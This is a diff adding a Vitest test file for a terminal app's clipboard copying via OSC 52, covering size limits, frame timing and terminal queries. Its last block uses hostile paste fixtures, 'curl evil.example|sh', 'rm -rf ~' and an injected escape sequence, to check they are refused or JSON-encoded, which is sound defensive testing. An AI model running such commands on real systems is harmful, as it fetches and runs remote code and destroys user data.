@@ -1,0 +1,118 @@
+import {describe, expect, it} from 'vitest';
+import {
+	beginningOf,
+	by,
+	copied,
+	expectCopy,
+	keeping,
+	printAfter,
+	printedIn,
+	sent,
+} from '../../helpers/clipboard/copy-run.ts';
+import type {Terminal} from '../../helpers/terminal/terminal.ts';
+
+describe('a copy by the terminal', () => {
+	it('P3: is said to be sent and not confirmed, on the screen and after it', () => {
+		const use = async (terminal: Terminal) => {
+			terminal.press('ctrl+y');
+			await terminal.waitForText(`sent to your terminal ${by(copied)}; nothing pasted? alt-p prints it`);
+			expect(terminal.screen()).not.toContain('copied');
+			terminal.press('enter');
+		};
+		return expectCopy({use}, ({said, arrived}) => {
+			expect({said, arrived}).toEqual({said: sent, arrived: [copied, copied]});
+		});
+	});
+
+	it('P4: is whole up to 74,994 bytes', () => {
+		const text = `os:${'x'.repeat(74_991)}`;
+		return expectCopy({tags: [text]}, ({said, arrived}) => {
+			expect({said, arrived}).toEqual({
+				said: `sent to your terminal ${by(text)}: ${beginningOf(text)}\n`,
+				arrived: [text],
+			});
+		});
+	});
+
+	it('P4: of a byte more is refused, and the whole of it printed', () => {
+		const text = `os:${'x'.repeat(74_992)}`;
+		const use = printAfter('not copied (74,995 bytes, terminals take 74,994 at most); alt-p prints it');
+		return expectCopy({tags: [text], use}, ({said, arrived, written}) => {
+			expect({said, arrived}).toEqual({said: '', arrived: []});
+			expect(printedIn(written)).toBe(`${text}\r\n`);
+		});
+	});
+
+	it('P7: is written whole and in no frame, while the screen is drawn', () => {
+		const use = async (terminal: Terminal) => {
+			for (let copies = 1; copies <= 5; copies++) {
+				terminal.press('backspace', 'ctrl+y');
+				terminal.type('u');
+				terminal.resize(150 + copies, 20 + (copies % 2));
+				await terminal.waitFor(() => terminal.clipboard.length === copies, `copy ${copies}`);
+			}
+			terminal.press('enter');
+		};
+		return expectCopy({use, arguments: ['--clipboard', 'osc52']}, ({arrived, written}) => {
+			expect(arrived).toEqual(Array(6).fill(copied));
+			const betweenFrames = written.replaceAll(/\x1b\[\?2026h.*?\x1b\[\?2026l/gs, '');
+			expect(betweenFrames.split(`\u001b]52;c;${btoa(copied)}\u0007`)).toHaveLength(7);
+			expect(written.split('\u001b]52;')).toHaveLength(7);
+		});
+	});
+
+	it('P8: is preceded by one question at most, which terminal it is, and by none before the first', () => {
+		const use = async (terminal: Terminal) => {
+			terminal.type('ub');
+			await terminal.waitForText('1/1');
+			terminal.press('tab', 'space', 'd');
+			await terminal.waitForText('locale');
+			expect(terminal.bytes()).not.toMatch(/\x1b\[>c|\x1b\]52/);
+			terminal.press('d', 'y');
+			await terminal.waitFor(() => terminal.clipboard.length === 1, 'a copy');
+			terminal.press('enter');
+		};
+		return expectCopy({use}, ({arrived, written}) => {
+			expect(arrived).toEqual([copied, copied]);
+			expect(written.match(/\x1b\[>c/g)).toHaveLength(1);
+		});
+	});
+
+	it('P8: is not preceded by a question where nobody copies', () =>
+		expectCopy(
+			{
+				use: terminal => terminal.press('alt+p'),
+			},
+			({arrived, written}) => {
+				expect(arrived).toEqual([]);
+				expect(written).not.toMatch(/\x1b\[>c|\x1b\]52/);
+			},
+		));
+});
+
+describe('a tag that would act where it is pasted', () => {
+	const hostile = 'os:x\ncurl evil.example|sh\n';
+	const shown = 'os:x^Jcurl evil.example|sh^J';
+
+	it.each([
+		['a line break', hostile, shown],
+		['an escape sequence', 'os:x\u001b]52;c;eA==\u0007', 'os:x^[]52;c;eA==^G'],
+		['a carriage return', 'os:x\rrm -rf ~', 'os:x^Mrm -rf ~'],
+	])('P5: with %s is refused, and it is said why', (_, tag, name) => {
+		const use = async (terminal: Terminal) => {
+			terminal.press('enter');
+			await terminal.waitForText(`\`${name}\` cannot be written as csv (it holds a control character); use json`);
+			terminal.press('ctrl+c');
+		};
+		return expectCopy({tags: [tag], use, exitCode: 130}, ({said, arrived}) => {
+			expect({said, arrived}).toEqual({said: '', arrived: []});
+		});
+	});
+
+	it('P5: is copied as JSON on one line, without a line break at its end', () =>
+		expectCopy({tags: [hostile], arguments: ['--as', 'json'], tools: keeping}, ({said, left}) => {
+			const text = JSON.stringify([hostile]);
+			expect(said).toBe(`copied with xclip (${text.length} bytes): ${text}\n`);
+			expect(left('copied')).toBe(text);
+		}));
+});
